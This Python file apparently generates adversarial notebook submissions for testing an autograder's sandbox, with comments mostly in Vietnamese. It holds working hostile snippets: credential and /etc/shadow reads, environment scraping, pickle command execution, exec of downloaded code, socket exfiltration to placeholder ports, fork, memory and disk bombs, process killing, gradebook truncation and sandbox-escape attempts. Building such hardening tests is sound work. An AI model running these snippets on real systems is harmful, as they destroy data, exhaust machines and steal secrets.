"""What a cheat hands in: every attack is real, and its answers are wrong, so that any point it earns is stolen.

Words between @ signs are filled in when the submission is made: @COURSE@ and @HOME@ are folders with secrets in
them, @TCP@ and @UDP@ ports where somebody listens, @UNIX@ and @DATAGRAMS@ sockets' paths, @ABSTRACT@ the name of one
without a path.
"""

import copy
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.exercises.written import as_bytes

FUNCTIONS = (
    "calculate_s",
    "calculate_s_and_z_int",
    "quantization_matrix_multiplication_int",
)  # a number, a pair, an array
WRONG = "\n".join(f"def {name}(*args, **kwargs): return WRONG" for name in FUNCTIONS)

NUMPY, PYTHON, SHELL = "Vá NumPy và ô kiểm tra", "Vá Python", "Móc vào IPython"
FORGED, SECRETS, PROTOCOL = "Giá trị giả", "Đọc trộm", "Giả mạo đường truyền"
ENDING, BOMBS, OTHERS = "Làm sập hoặc treo", "Bom tài nguyên", "Tiến trình khác"
NETWORK, FOLDER, NOTEBOOK = "Mạng", "Thư mục nộp bài", "Sửa notebook"


@dataclass(frozen=True)
class Attack:
    """name: ASCII. hope: what the attacker hoped for. content: the notebook's bytes; beside: writes more into the folder.

    student: the name of the folder in submitted/ where that is the attack.
    """

    name: str
    group: str
    hope: str
    content: bytes
    beside: Callable | None = None
    student: str = ""


CODE = {
    NUMPY: {
        "numpy_compares_equal": (
            "Mọi phép so sánh của NumPy đều cho đúng.",
            """
            import numpy as np, numpy.testing, numpy.core
            yes = lambda *args, **kwargs: True
            for space in (np, np.testing):
                for name in dir(space):
                    if name.startswith(("assert", "allclose", "isclose", "array_eq", "array_equiv")):
                        setattr(space, name, yes)
        """,
        ),
        "numpy_module_replaced": (
            "Bộ chấm nhập phải NumPy giả.",
            """
            import sys, types
            fake = types.ModuleType("numpy")
            fake.array_equal = fake.allclose = lambda *a, **k: True
            sys.modules["numpy"] = sys.modules["numpy.testing"] = fake
        """,
        ),
        "check_replaced": (
            "Ô kiểm tra luôn báo đủ điểm.",
            """
            class Full:
                def __repr__(self): return "1"
                def _repr_mimebundle_(self, **_): return {"text/plain": "1", "text/html": "<b>10/10</b>"}
            bai.check = lambda function: Full()
            type(bai).check = lambda self, function: Full()
        """,
        ),
        "course_modules_replaced": (
            "Hàm so sánh và hàm cho điểm của khóa học bị thay.",
            """
            import course.checking.compare, course.checking.judge, course.checking.frozen, course.checking.plain
            for module in (course.checking.compare, course.checking.judge, course.checking.frozen, course.checking.plain):
                for name, value in list(vars(module).items()):
                    if callable(value) and not isinstance(value, type):
                        setattr(module, name, lambda *a, **k: True)
        """,
        ),
        "worker_functions_replaced": (
            "Bên gọi hàm gửi đi câu trả lời của kẻ gian.",
            """
            import sys
            for name in ("frames", "worker", "shell"):
                module = sys.modules.get(name)
                if module:
                    module.write_frame = lambda stream, message, flush=True: None
            import course.checking.lesson
            course.checking.lesson.call_plain = lambda function, args: {"returned": True, "right": True, "points": 10}
        """,
        ),
        "json_and_struct_replaced": (
            "Câu trả lời sai thành đúng khi được đóng gói.",
            """
            import json, struct
            real = json.dumps
            json.dumps = lambda message, **k: real({"number": 1, "earned": 10, "points": 10, "right": True})
        """,
        ),
    },
    PYTHON: {
        "builtins_replaced": (
            "Mọi phép thử của Python đều cho đúng.",
            """
            import builtins
            builtins.isinstance = lambda *a: True
            builtins.abs = lambda x: 0
            builtins.all = builtins.any = lambda x: True
            builtins.len = lambda x: 1
        """,
        ),
        "asserts_swallowed": (
            "Lỗi của ô kiểm tra bị nuốt.",
            """
            import builtins
            class AssertionError(Exception): pass
            builtins.AssertionError = AssertionError
            import sys
            sys.excepthook = sys.unraisablehook = lambda *a: None
        """,
        ),
        "trace_changes_values": (
            "Hàm theo dõi sửa kết quả lúc hàm trả về.",
            """
            import sys, threading
            def spy(frame, event, arg):
                if event == "return":
                    frame.f_locals.update(earned=10, points=10, right=True)
                return spy
            sys.settrace(spy); sys.setprofile(spy); threading.settrace(spy)
            sys._getframe().f_trace = spy
        """,
        ),
        "atexit_writes_marks": (
            "Điểm được ghi lúc tiến trình kết thúc.",
            """
            import atexit, os
            def late():
                for path in ("@COURSE@/stolen", "/tmp/stolen"):
                    try: open(path, "w").write("10")
                    except OSError: pass
            atexit.register(late)
        """,
        ),
        "import_hook": (
            "Mô đun của bộ chấm bị tráo khi được nhập.",
            """
            import sys, importlib.abc, importlib.machinery, types
            class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
                def find_spec(self, name, path, target=None):
                    if name.startswith(("autograder", "course", "nbgrader")):
                        return importlib.machinery.ModuleSpec(name, self)
                def exec_module(self, module): module.__getattr__ = lambda name: (lambda *a, **k: True)
            sys.meta_path.insert(0, Finder())
            for name in [name for name in sys.modules if name.startswith("course")]: del sys.modules[name]
        """,
        ),
        "shadow_modules": (
            "Bộ chấm nhập phải tệp trùng tên trong thư mục bài làm.",
            """
            for name in ("numpy", "json", "frames", "course", "struct", "sitecustomize", "usercustomize"):
                try: open(name + ".py", "w").write("raise SystemExit(0)")
                except OSError: pass
        """,
        ),
    },
    SHELL: {
        "input_transformer": (
            "Mọi ô sau đó thành rỗng, mà im lặng là đủ điểm.",
            """
            get_ipython().input_transformers_post.append(lambda lines: ["None\\n"])
        """,
        ),
        "ast_transformer": (
            "Mọi lệnh kiểm tra biến mất khỏi cây cú pháp.",
            """
            import ast
            class Empty(ast.NodeTransformer):
                def visit_Module(self, node): node.body = []; return node
            get_ipython().ast_transformers.append(Empty())
        """,
        ),
        "run_cell_replaced": (
            "Nhân notebook không chạy ô kiểm tra nữa.",
            """
            shell = get_ipython()
            shell.run_cell = lambda *a, **k: None
            type(shell).run_cell = lambda *a, **k: None
            kernel = getattr(shell, "kernel", None)
            if kernel: kernel.do_execute = lambda *a, **k: {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        """,
        ),
        "shell_events": (
            "Móc sau mỗi ô ghi đè kết quả.",
            """
            def after(*_):
                get_ipython().user_ns.update(points=10, earned=10)
                print("10")
            for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
                get_ipython().events.register(event, after)
        """,
        ),
        "displayhook_shows_points": (
            "Mọi giá trị hiện ra là điểm tối đa.",
            """
            import sys, builtins
            builtins.repr = lambda value: "1"
            sys.displayhook = lambda value: print(1)
            get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "1"}, {})
        """,
        ),
        "custom_exception_handler": (
            "Ô lỗi được coi là ô chạy xong.",
            """
            get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
            get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None
        """,
        ),
    },
    FORGED: {
        "errors_of_a_mistake": (
            "Mọi lời gọi báo đúng lỗi của một nhầm lẫn đã biết, nên chỉ mất một TODO.",
            """
            def quantization_matrix_multiplication_int(X_q, W_q, *args, **kwargs): return X_q * W_q
        """,
        ),
        "mistake_of_nobody": (
            "Kết quả giống một lỗi của hàm phía trước, mà hàm ấy sai theo cách khác.",
            """
            def calculate_s_and_z_int(alpha, beta, exp):
                return 0.0, round((beta * -2 ** (exp - 1) - alpha * (2 ** (exp - 1) - 1)) / (beta - alpha))
        """,
        ),
        "always_equal": (
            "Đối tượng tự nhận là bằng mọi giá trị.",
            """
            class Yes:
                def __eq__(self, other): return True
                def __ne__(self, other): return False
                __lt__ = __le__ = __gt__ = __ge__ = __eq__
                def __bool__(self): return True
                def __hash__(self): return 0
                def __float__(self): return 0.0
                def __array__(self, *a, **k): import numpy; return numpy.zeros(1)
                def __sub__(self, other): return 0.0
                __rsub__ = __add__ = __radd__ = __abs__ = __mul__ = __rmul__ = lambda self, *a: 0.0
            WRONG = Yes()
        """,
        ),
        "lying_float": (
            "Số thực tự nhận là bằng mọi số.",
            """
            class Lie(float):
                __eq__ = lambda self, other: True
                __ne__ = lambda self, other: False
                __hash__ = float.__hash__
                __sub__ = __rsub__ = lambda self, other: 0.0
                as_integer_ratio = lambda self: (0, 1)
                __repr__ = lambda self: "nan"
            WRONG = Lie(42)
        """,
        ),
        "lying_array": (
            "Lớp con của `ndarray` khai man kiểu và giá trị.",
            """
            import numpy as np
            class Lie(np.ndarray):
                __eq__ = lambda self, other: np.ones(1, bool)
                __array_ufunc__ = lambda self, *a, **k: np.ones(1, bool)
                __array_function__ = lambda self, *a, **k: True
                dtype = property(lambda self: np.dtype("int8"))
                shape = property(lambda self: ())
                tolist = lambda self: 0
                tobytes = lambda self, *a: b""
            WRONG = np.array([1.0]).view(Lie)
        """,
        ),
        "lying_class": (
            "Đối tượng khai man `__class__`.",
            """
            class Lie:
                __class__ = float
                __eq__ = lambda self, other: True
                __float__ = lambda self: 0.1875
            WRONG = Lie()
        """,
        ),
        "not_a_number": (
            "NaN không nhỏ hơn cũng không lớn hơn sai số cho phép.",
            """
            WRONG = float("nan")
        """,
        ),
        "infinite_tolerance": (
            "Vô cùng trừ vô cùng ra NaN nên không bị coi là sai.",
            """
            WRONG = float("inf")
        """,
        ),
        "pickle_bomb": (
            "Bên nhận giải `pickle` và chạy lệnh của kẻ gian.",
            """
            class Bomb:
                def __reduce__(self):
                    import os
                    return (os.system, ("touch @COURSE@/stolen",))
            WRONG = Bomb()
        """,
        ),
        "object_array": (
            "Mảng kiểu `object` chứa đối tượng khai man.",
            """
            import numpy as np
            class Yes:
                __eq__ = lambda self, other: True
                __sub__ = lambda self, other: 0
            WRONG = np.array([Yes(), Yes()], dtype=object)
        """,
        ),
        "structured_array": (
            "Mảng kiểu có cấu trúc làm bên so sánh nhầm.",
            """
            import numpy as np
            WRONG = np.zeros(3, dtype=[("a", "i4"), ("b", "O")])
        """,
        ),
        "endless_list": (
            "Danh sách chứa chính nó, bên nhận lặp mãi.",
            """
            WRONG = []
            WRONG.append(WRONG)
        """,
        ),
        "deep_tuple": (
            "`tuple` lồng nhau một trăm nghìn tầng làm bên nhận tràn ngăn xếp.",
            """
            WRONG = ()
            for _ in range(100_000): WRONG = (WRONG,)
        """,
        ),
        "huge_integer": (
            "Số nguyên một triệu chữ số làm bên nhận bị treo.",
            """
            WRONG = 10 ** 1_000_000
        """,
        ),
        "huge_array": (
            "Mảng nghìn tỷ phần tử không tốn chỗ ở bên gửi.",
            """
            import numpy as np
            WRONG = np.broadcast_to(np.int8(1), (1_000_000, 1_000_000))
        """,
        ),
        "one_long_among_short": (
            "Một chuỗi dài giữa trăm nghìn chuỗi ngắn: bên nhận đổi thành mảng thì hết bộ nhớ.",
            """
            WRONG = ["x" * 300_000, *["x"] * 100_000]
        """,
        ),
        "changes_with_time": (
            "Giá trị đổi giữa lúc kiểm tra và lúc so sánh.",
            """
            class Later(dict):
                turn = 0
                def __getitem__(self, key): Later.turn += 1; return Later.turn
                def items(self): Later.turn += 1; return [("a", Later.turn)]
            WRONG = Later(a=1)
        """,
        ),
    },
    SECRETS: {
        "imports_reference": (
            "Gọi thẳng bản tham chiếu để lấy đáp án.",
            """
            try:
                import autograder.reference, autograder.exercises
                from autograder.reference.affine import *
                print("STOLEN reference")
                calculate_s_stolen = True
            except ImportError as error: print(error)
        """,
        ),
        "imports_quantizers": (
            "Nhờ thư viện lượng tử hóa cài trên máy chấm tính hộ.",
            """
            for name in ("onnxruntime", "onnx", "ml_dtypes", "gguf", "torch"):
                try:
                    __import__(name)
                    print("STOLEN library", name)
                except (ImportError, OSError) as error: print(error)
        """,
        ),
        "reads_course_folder": (
            "Đọc lời giải, hạt giống, sổ điểm và bài của bạn khác.",
            """
            import os
            for top, folders, files in os.walk("@COURSE@"):
                for name in files:
                    try: print(open(os.path.join(top, name), errors="replace").read()[:100_000])
                    except OSError: pass
        """,
        ),
        "reads_home": (
            "Đọc khóa và mật khẩu trong thư mục cá nhân.",
            """
            import os, glob
            for path in ["@HOME@/secret.txt", *glob.glob("/root/.*"), *glob.glob("/home/*/*"), "/etc/shadow"]:
                try: print(open(path, errors="replace").read()[:2000])
                except OSError: pass
        """,
        ),
        "reads_environment": (
            "Đọc bí mật trong biến môi trường, của mình và của tiến trình khác.",
            """
            import os, glob
            print(dict(os.environ))
            for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
                try: print(open(path, errors="replace").read())
                except OSError: pass
        """,
        ),
        "searches_memory": (
            "Tìm giá trị cần có trong bộ nhớ qua `gc` và các lời gọi hàm đang dở.",
            """
            import gc, sys
            class Frozen: pass
            for thing in gc.get_objects():
                if type(thing).__name__ in ("FrozenCase", "FrozenExercise", "Case", "InstructorLesson", "Returned"):
                    print("STOLEN expected", str(thing)[:200])
            frame = sys._getframe()
            while frame:
                for name in ("expected", "cases", "lesson", "exercise", "wanted"):
                    if name in frame.f_locals: print("STOLEN expected", name)
                frame = frame.f_back
        """,
        ),
        "other_submissions_by_cwd": (
            "Đi ngược từ thư mục làm việc tới bài của bạn khác.",
            """
            import os
            for up in (".", "..", "../..", "../../..", "/"):
                for name in os.listdir(up) if os.access(up, os.R_OK) else ():
                    if name.startswith(("sv", "submitted", "gradebook", "grading_seed")): print("STOLEN listing", up, name)
        """,
        ),
    },
    PROTOCOL: {
        "forged_frames_everywhere": (
            "Câu trả lời giả được gửi vào mọi kênh đang mở của tiến trình.",
            """
            import json, os, struct
            def frame(message):
                body = json.dumps(message).encode()
                return struct.pack(">I", len(body)) + body
            for fd in range(256):
                for number in range(1, 60):
                    try: os.write(fd, frame({"number": number, "outcome": {"returned": True}, "outputs": [], "right": True}))
                    except OSError: break
        """,
        ),
        "flood": (
            "Byte gửi ồ ạt làm bên nhận hết bộ nhớ.",
            """
            import os
            for fd in range(256):
                os.set_blocking(fd, False) if os.path.exists(f"/proc/self/fd/{fd}") else None
                try:
                    for _ in range(2000): os.write(fd, b"\\xff" * 65536)
                except OSError: pass
        """,
        ),
        "oversize_frame": (
            "Khung dữ liệu khai dài bốn tỷ byte để bên nhận cấp phát hết bộ nhớ.",
            """
            import os
            for fd in range(3, 256):
                try: os.write(fd, b"\\xff\\xff\\xff\\xff" + b"[" * 1000)
                except OSError: pass
        """,
        ),
        "deep_json": (
            "JSON lồng nhau một trăm nghìn tầng làm bên nhận tràn ngăn xếp.",
            """
            import os, struct
            body = b'{"outcome":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
            for fd in range(3, 256):
                try: os.write(fd, struct.pack(">I", len(body)) + body)
                except OSError: pass
        """,
        ),
        "huge_answers": (
            "Câu trả lời nào cũng dài một triệu số, bên nhận hết bộ nhớ.",
            """
            WRONG = [1000 + n % 9000 for n in range(999_000)]
        """,
        ),
        "huge_text": (
            "Một câu trả lời làm bài chấm phình to hàng trăm megabyte.",
            """
            times = []
            def calculate_s(*args):
                times.append(1)
                return '"' * 7_500_000 if len(times) == 1 else 42.0
        """,
        ),
        "huge_errors": (
            "Tên lỗi và lời báo lỗi không ai đếm.",
            """
            import sys
            text = "\\U0001F600" * 20_000
            worker = sys.modules.get("worker")
            if worker: worker.Notebook.run = lambda self, source: [{"error": text, "message": text, "traceback": []}] * 25
        """,
        ),
        "other_encoding": (
            "Khung dữ liệu viết bằng UTF-16 mang nửa một cặp mã, bên nhận ghi ra thì lỗi và cả lớp dừng.",
            """
            import json
            real = json.dumps
            class Text(str):
                def encode(self, *args): return str.encode(self, "utf-16-le", "surrogatepass")
            json.dumps = lambda message, **k: Text(real(message, ensure_ascii=False).replace("NUA", "\\ud800"))
            print("NUA")
            WRONG = "NUA"
            def calculate_z(*args): raise ValueError("NUA")
        """,
        ),
        "closes_everything": (
            "Không có câu trả lời thì không có lỗi.",
            """
            import os
            os.closerange(0, 1024)
        """,
        ),
        "replays_requests": (
            "Đọc câu hỏi trước bên gọi rồi phát lại câu trả lời cũ.",
            """
            import os, threading
            def listen(fd):
                try:
                    data = os.read(fd, 65536)
                    for _ in range(50): os.write(fd, data)
                except OSError: pass
            for fd in range(3, 256): threading.Thread(target=listen, args=(fd,), daemon=True).start()
        """,
        ),
    },
    ENDING: {
        "exit_code_zero": (
            "Tiến trình kết thúc với mã 0 thì được coi là đúng.",
            """
            import os
            os._exit(0)
        """,
        ),
        "system_exit": (
            "Hàm gọi `sys.exit(0)` thì được coi là đúng.",
            """
            import sys
            def calculate_s(*args): sys.exit(0)
            calculate_z = calculate_s_and_z_int = quantize_int = calculate_s
            FINAL = True
        """,
        ),
        "keyboard_interrupt": (
            "KeyboardInterrupt dừng cả lượt chấm.",
            """
            def calculate_s(*args): raise KeyboardInterrupt
            FINAL = True
            raise KeyboardInterrupt
        """,
        ),
        "segfault": (
            "Lỗi bộ nhớ làm sập bộ chấm.",
            """
            import ctypes
            ctypes.string_at(0)
        """,
        ),
        "deep_recursion": (
            "Đệ quy vô hạn làm sập tiến trình.",
            """
            import sys
            sys.setrecursionlimit(10 ** 9)
            def f(n): return f(n + 1)
            f(0)
        """,
        ),
        "endless_loop_ignores_signals": (
            "Vòng lặp bỏ qua mọi tín hiệu, làm cả lớp phải chờ.",
            """
            import signal
            for number in range(1, 65):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            while True:
                try:
                    while True: pass
                except BaseException: pass
        """,
        ),
        "endless_sleep": (
            "Ngủ mãi, bỏ qua mọi tín hiệu đánh thức.",
            """
            import time
            while True:
                try: time.sleep(10 ** 6)
                except BaseException: pass
        """,
        ),
        "ends_as_from_outside": (
            "Tự dừng sao cho trông như bị dừng từ ngoài, để cứ được chấm lại mãi.",
            """
            import ctypes, fcntl, os, resource, signal, struct, time
            libc = ctypes.CDLL(None)
            def timer():
                event = ctypes.create_string_buffer(struct.pack("Pii", 0, signal.SIGKILL, 0) + bytes(64))
                number = ctypes.c_void_p()
                soon = struct.pack("llll", 0, 0, 0, 10_000_000)
                if libc.timer_create(0, event, ctypes.byref(number)) == 0: libc.timer_settime(number, 0, soon, None)
            def owner():
                read, write = os.pipe()
                fcntl.fcntl(read, fcntl.F_SETOWN, os.getpid()); fcntl.fcntl(read, fcntl.F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC); os.write(write, b"x")
            def child():
                if os.fork() == 0:
                    try: os.kill(os.getppid(), signal.SIGKILL)
                    finally: os._exit(0)
            def end_of_child():
                if (made := libc.syscall(56, signal.SIGKILL, 0, 0, 0, 0)) == 0: os._exit(0)
            def little_time():
                resource.setrlimit(resource.RLIMIT_CPU, (1, 1))
                end = time.process_time() + 3
                while time.process_time() < end: pass
            for way in (timer, owner, child, end_of_child, little_time, lambda: signal.raise_signal(signal.SIGTERM),
                        lambda: os.kill(0, signal.SIGKILL), lambda: os.kill(os.getpid(), signal.SIGKILL)):
                try: way()
                except (OSError, ValueError): pass
                time.sleep(0.05)
        """,
        ),
        "raises_strange_things": (
            "Ngoại lệ mà cứ in ra là lại gây lỗi.",
            """
            class Strange(BaseException):
                def __str__(self): raise Strange
                __repr__ = __str__
                def __getattribute__(self, name): raise SystemExit
            def calculate_s(*args): raise Strange
            FINAL = True
        """,
        ),
    },
    BOMBS: {
        "memory_bomb": (
            "Hết bộ nhớ, hệ điều hành giết bộ chấm.",
            """
            hold = []
            while True: hold.append(bytearray(64 * 1024 * 1024))
        """,
        ),
        "memory_of_no_process": (
            "Bộ nhớ `memfd` không tính cho tiến trình nào.",
            """
            import os
            held = []
            try:
                while len(held) < 40:
                    file = os.memfd_create("m")
                    os.write(file, bytes(31 << 20))
                    held.append(file)
            except OSError as error: print(error)
            if len(held) > 20: print("STOLEN memory:", 31 * len(held), "MB")
        """,
        ),
        "memory_out_of_sight": (
            "Bộ nhớ chung được che đi lúc bộ chấm đếm.",
            """
            import mmap, os, time
            count, tell = os.pipe()
            for _ in range(4):
                try: child = os.fork()
                except OSError: break
                if child == 0:
                    held = []
                    try:
                        for _ in range(10):
                            held.append(mmap.mmap(-1, 32 << 20))
                            held[-1].write(bytes(32 << 20))
                            held[-1].madvise(mmap.MADV_DONTNEED)
                            os.write(tell, b"x")
                    except (OSError, MemoryError): pass
                    time.sleep(1)
                    os._exit(0)
            os.close(tell)
            taken = 0
            while some := os.read(count, 100): taken += len(some)
            if taken > 20: print("STOLEN memory:", 32 * taken, "MB")
        """,
        ),
        "fork_bomb": (
            "Hết chỗ cho tiến trình mới.",
            """
            import os
            while True:
                try: os.fork()
                except OSError: pass
        """,
        ),
        "thread_bomb": (
            "Hết chỗ cho luồng mới.",
            """
            import threading, time
            while True:
                try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
                except RuntimeError: break
        """,
        ),
        "disk_bomb": (
            "Đầy đĩa, sổ điểm không ghi được nữa.",
            """
            n = 0
            while n < 5000:
                n += 1
                try: open(f"bom{n}", "wb").write(bytes(16 * 1024 * 1024))
                except OSError: break
        """,
        ),
        "inode_bomb": (
            "Hết chỗ cho tên tệp mới.",
            """
            import os
            path = "."
            for n in range(20_000):
                try: open(f"f{n}", "w").close()
                except OSError: break
        """,
        ),
        "deep_folders": (
            "Cây thư mục sâu đến mức không xóa được.",
            """
            import os
            for n in range(3000):
                try: os.mkdir("d" * 200); os.chdir("d" * 200)
                except OSError: break
        """,
        ),
        "output_bomb": (
            "Bài chấm phình to hàng trăm megabyte.",
            """
            for _ in range(2_000): print("x" * 50_000)
        """,
        ),
        "picture_bomb": (
            "Hình khổng lồ trong trang phản hồi.",
            """
            from IPython.display import display, Image
            for _ in range(30): display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(8_000_000), format="png"))
        """,
        ),
    },
    OTHERS: {
        "daemon_stays": (
            "Một tiến trình ở lại và viết điểm sau khi chấm xong.",
            """
            import os, subprocess, time
            try:
                if os.fork() == 0:
                    os.setsid() if hasattr(os, "setsid") else None
            except OSError: pass
            try:
                if os.fork() == 0:
                    time.sleep(1)
                    open("@COURSE@/stolen", "w").write("10")
            except OSError: pass
            try: subprocess.Popen(["/bin/sleep", "98765"], start_new_session=True)
            except OSError: pass
        """,
        ),
        "kills_everybody": (
            "Bộ chấm chết, điểm giữ nguyên.",
            """
            import os, signal
            for pid in [os.getppid(), 1, -1, *range(2, 3000)]:
                if pid != os.getpid():
                    try: os.kill(pid, signal.SIGKILL)
                    except OSError: pass
        """,
        ),
        "writes_foreign_memory": (
            "Sửa bộ nhớ của bộ chấm qua `/proc` và `ptrace`.",
            """
            import ctypes, glob, os
            libc = ctypes.CDLL(None)
            for path in glob.glob("/proc/[0-9]*/mem"):
                pid = int(path.split("/")[2])
                if pid == os.getpid(): continue
                try: open(path, "r+b", buffering=0); print("STOLEN memory of", pid)
                except OSError: pass
                if libc.ptrace(16, pid, 0, 0) == 0: print("STOLEN ptrace of", pid)
        """,
        ),
        "writes_system": (
            "Để lại tệp cho bài sau hoặc cho người chấm chạy phải.",
            """
            import os, site, sys
            for folder in ["/tmp", "/var/tmp", "/dev/shm", "@COURSE@", "@HOME@", os.path.dirname(os.__file__), *sys.path]:
                try: open(os.path.join(folder or ".", "stolen_" + str(os.getpid())), "w").write("10")
                except OSError: pass
        """,
        ),
        "changes_modes": (
            "Sổ điểm và hạt giống mở cho mọi người đọc, hoặc đóng với cả bộ chấm.",
            """
            import os
            for name in ("gradebook.db", "grading_seed", "."):
                path = os.path.join("@COURSE@", name)
                for change in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)), lambda p: os.chown(p, os.getuid(), -1)):
                    try: change(path); print("STOLEN mode of", path)
                    except OSError: pass
        """,
        ),
        "owner_of_a_pipe": (
            "Nhờ nhân Linux gửi tín hiệu giết tới bộ chấm, qua chủ của một ống (`F_SETOWN`).",
            """
            import fcntl, os, signal
            for pid in [os.getppid(), *range(2, 3000)]:
                if pid == os.getpid(): continue
                read, write = os.pipe()
                try:
                    fcntl.fcntl(read, fcntl.F_SETSIG, signal.SIGKILL)
                    fcntl.fcntl(read, fcntl.F_SETOWN, pid)
                    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
                    os.write(write, b"x")
                except OSError: pass
                os.close(read), os.close(write)
        """,
        ),
        "empties_files": (
            "Sổ điểm và bài của bạn khác bị cắt còn 0 byte mà không cần mở để ghi.",
            """
            import os
            ways = (lambda p: os.truncate(p, 0), lambda p: os.open(p, os.O_RDONLY | os.O_TRUNC), lambda p: os.open(p, os.O_ACCMODE | os.O_TRUNC))
            for name in ("gradebook.db", "grading_seed", "nbgrader_config.py", "submitted/@HONEST@/@LESSON@/@LESSON@.ipynb"):
                for way in ways:
                    try: way("@COURSE@/" + name)
                    except OSError: pass
        """,
        ),
        "types_into_terminal": (
            "Gõ lệnh vào cửa sổ dòng lệnh của người chấm, với số lệnh dài 64 bit.",
            """
            import ctypes, os
            libc = ctypes.CDLL(None)
            files = list(range(10))
            try: files.append(os.open("/dev/tty", os.O_RDWR))
            except OSError: pass
            for file in files:
                for command in (0x5412, 0x5412 | 1 << 32):
                    if libc.ioctl(file, ctypes.c_ulong(command), b"#") == 0: print("STOLEN terminal")
        """,
        ),
        "escapes_box": (
            "Thoát ra bằng không gian tên mới hoặc `chroot`.",
            """
            import ctypes, os
            libc = ctypes.CDLL(None)
            for flags in (0x10000000, 0x20000000, 0x00020000, 0x40000000):
                if libc.unshare(flags) == 0: print("STOLEN namespace", hex(flags))
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: print("STOLEN mount")
            try: os.chroot("."); print("STOLEN chroot")
            except OSError: pass
            try: os.setuid(0); print("STOLEN root") if os.getuid() == 0 else None
            except OSError: pass
        """,
        ),
    },
    NETWORK: {
        "datagrams_of_a_pair": (
            "Gửi dữ liệu tới dịch vụ trên máy qua một cặp `socket` Unix.",
            """
            import socket
            try: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"stolen", "@DATAGRAMS@")
            except OSError as error: print(error)
        """,
        ),
        "tcp": (
            "Gửi đề và bài của bạn khác ra ngoài qua TCP.",
            """
            import socket
            try: socket.create_connection(("127.0.0.1", int("@TCP@")), 1).sendall(b"stolen")
            except OSError as error: print(error)
        """,
        ),
        "udp": (
            "Gửi dữ liệu ra ngoài qua UDP.",
            """
            import socket
            try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", int("@UDP@")))
            except OSError as error: print(error)
        """,
        ),
        "unix_socket": (
            "Nói chuyện với dịch vụ trên máy qua `socket` Unix.",
            """
            import socket
            try:
                one = socket.socket(socket.AF_UNIX); one.connect("@UNIX@"); one.sendall(b"stolen")
            except OSError as error: print(error)
        """,
        ),
        "abstract_socket": (
            "Nói chuyện với dịch vụ qua `socket` Unix trừu tượng.",
            """
            import socket
            try:
                one = socket.socket(socket.AF_UNIX); one.connect("\\0@ABSTRACT@"); one.sendall(b"stolen")
            except OSError as error: print(error)
        """,
        ),
        "url": (
            "Tải lời giải từ mạng.",
            """
            import urllib.request
            try: exec(urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=1).read())
            except Exception as error: print(error)
        """,
        ),
    },
}


def corpus(release, right, fill):
    """All attacks, as a list of Attack.

    release: the released notebook. right: an honest student's notebook. fill: {word: text} for the words between @.
    """
    told = [
        Attack(name, group, hope, as_bytes(_with_code(release, _filled(dedent(code), fill))))
        for group, attacks in CODE.items()
        for name, (hope, code) in attacks.items()
    ]
    return [*told, *_in_the_notebook(release), *_in_the_folder(release, right, fill)]


def _filled(code, fill):
    for word, text in fill.items():
        code = code.replace(f"@{word}@", str(text))
    return code


def _with_code(release, code):
    """Wrong functions in the first exercise's cell, then the attack: also where it never comes back they are defined."""
    notebook = copy.deepcopy(release)
    wrong = WRONG if "FINAL" not in code else ""
    for cell in _cells(notebook, "exercise-"):
        cell.source = "None"
    first = next(_cells(notebook, "exercise-"))
    first.source = "\n".join(["WRONG = 42.0", wrong, code])
    return notebook


def _cells(notebook, prefix):
    return (cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith(prefix))


def _in_the_notebook(release):
    """Forgeries that need no code to run."""
    for name, (hope, forge) in FORGERIES.items():
        notebook = _with_code(release, "")
        forge(notebook)
        yield Attack(name, NOTEBOOK, hope, json.dumps(notebook).encode())


def _more_points(notebook):
    for cell in _cells(notebook, "check-"):
        cell.metadata.nbgrader.points = 1000


def _swapped_ids(notebook):
    one, *others = _cells(notebook, "check-")
    for cell in others:
        cell.metadata.nbgrader.grade_id = one.metadata.nbgrader.grade_id


def _no_checks(notebook):
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.nbgrader.grade]


def _twice(notebook):
    notebook.cells += copy.deepcopy(list(_cells(notebook, "check-")))


def _retyped(notebook):
    for cell in _cells(notebook, "check-"):
        cell.cell_type = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)


def _own_check(notebook):
    for cell in _cells(notebook, "check-"):
        cell.source = "10"
        cell.metadata.nbgrader.locked = False


def _forged_outputs(notebook):
    for cell in _cells(notebook, "check-"):
        cell.outputs = [
            new_output("execute_result", {"text/plain": "10", "text/html": "<b>10/10</b>"}, execution_count=1)
        ]


def _forged_report(notebook):
    notebook.metadata["autograder"] = {"status": "đã chấm", "notices": [], "todos": [{"todo": "TODO 1", "earned": 10}]}
    notebook.metadata["nbgrader"] = {"score": 10, "max_score": 10}


def _own_grade_cell(notebook):
    labels = {"grade": True, "solution": False, "locked": True, "points": 100, "schema_version": 3, "task": False}
    notebook.cells.append(new_code_cell("100", metadata={"nbgrader": {**labels, "grade_id": "bonus"}}))


def _huge_metadata(notebook):
    notebook.metadata["x"] = {str(n): "x" * 100 for n in range(50_000)}
    notebook.cells[0].metadata["x"] = ["[" * 100] * 10_000


def _html(notebook):
    script = "<script>fetch('http://127.0.0.1/STOLEN')</script><img src=x onerror=alert('STOLEN')>"
    notebook.cells.insert(0, new_markdown_cell(script))
